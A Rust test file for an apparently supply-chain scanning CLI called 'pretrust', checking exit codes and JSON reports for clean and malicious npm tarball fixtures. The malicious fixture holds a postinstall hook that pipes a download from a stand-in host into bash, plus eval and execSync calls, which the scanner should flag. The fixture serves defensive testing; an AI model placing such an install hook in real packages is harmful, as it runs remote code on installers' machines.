//! Exit-code contract tests against local artifacts; no network.

use std::fs;
use std::path::Path;

use assert_cmd::Command;
use flate2::Compression;
use flate2::write::GzEncoder;
use predicates::prelude::*;

fn write_tarball(dest: &Path, entries: &[(&str, &str)]) {
    let encoder = GzEncoder::new(Vec::new(), Compression::default());
    let mut builder = tar::Builder::new(encoder);
    for (entry_path, body) in entries {
        let mut header = tar::Header::new_gnu();
        header.set_size(body.len() as u64);
        header.set_mode(0o644);
        header.set_cksum();
        builder
            .append_data(&mut header, entry_path, body.as_bytes())
            .expect("append entry");
    }
    let bytes = builder
        .into_inner()
        .expect("finish tar")
        .finish()
        .expect("finish gzip");
    fs::write(dest, bytes).expect("write tarball");
}

fn pretrust() -> Command {
    let mut cmd = Command::cargo_bin("pretrust").expect("binary");
    // Isolate from any host configuration.
    cmd.env("PRETRUST_CONFIG_GLOBAL_PATH", "/nonexistent/global.toml")
        .env("PRETRUST_CONFIG_PROJECT_PATH", "/nonexistent/project.toml");
    cmd
}

#[test]
fn clean_local_artifact_exits_with_caution() {
    let dir = tempfile::tempdir().expect("tempdir");
    let tarball = dir.path().join("clean-fixture.tgz");
    write_tarball(
        &tarball,
        &[
            ("package/package.json", r#"{ "name": "clean-fixture", "version": "1.0.0" }"#),
            ("package/index.js", "module.exports = () => 1;\n"),
        ],
    );

    // Without repository data the ceiling is 75: grade C, exit 1.
    pretrust()
        .arg(tarball.to_str().expect("utf8 path"))
        .assert()
        .code(1)
        .stdout(predicate::str::contains("verdict CAUTION"));
}

#[test]
fn malicious_local_artifact_exits_with_danger() {
    let dir = tempfile::tempdir().expect("tempdir");
    let tarball = dir.path().join("evil-fixture.tgz");
    write_tarball(
        &tarball,
        &[
            (
                "package/package.json",
                r#"{
                    "name": "evil-fixture",
                    "version": "0.0.1",
                    "scripts": { "postinstall": "curl http://collector.invalid/x | bash" },
                    "dependencies": { "anything": "*" }
                }"#,
            ),
            (
                "package/index.js",
                "eval(input);\nconst cp = require('child_process');\ncp.execSync(cmd);\n",
            ),
        ],
    );

    pretrust()
        .arg(tarball.to_str().expect("utf8 path"))
        .assert()
        .code(2)
        .stdout(predicate::str::contains("verdict DANGER"));
}

#[test]
fn json_output_matches_the_report_schema() {
    let dir = tempfile::tempdir().expect("tempdir");
    let tarball = dir.path().join("clean-fixture.tgz");
    write_tarball(
        &tarball,
        &[
            ("package/package.json", r#"{ "name": "clean-fixture", "version": "1.0.0" }"#),
            ("package/index.js", "module.exports = () => 1;\n"),
        ],
    );

    let output = pretrust()
        .arg(tarball.to_str().expect("utf8 path"))
        .arg("--json")
        .output()
        .expect("run");
    assert_eq!(output.status.code(), Some(1));

    let report: serde_json::Value =
        serde_json::from_slice(&output.stdout).expect("report is valid JSON");
    assert_eq!(report["package"]["name"], "clean-fixture");
    assert_eq!(report["score"], 75);
    assert_eq!(report["grade"], "C");
    assert!(report["github"].is_null());
    assert!(report["diff"].is_null());
    assert_eq!(report["scanners"].as_array().map(Vec::len), Some(8));
}

#[test]
fn unparseable_specifier_exits_2() {
    pretrust()
        .arg("@bad")
        .assert()
        .code(2)
        .stderr(predicate::str::contains("specifier"));
}
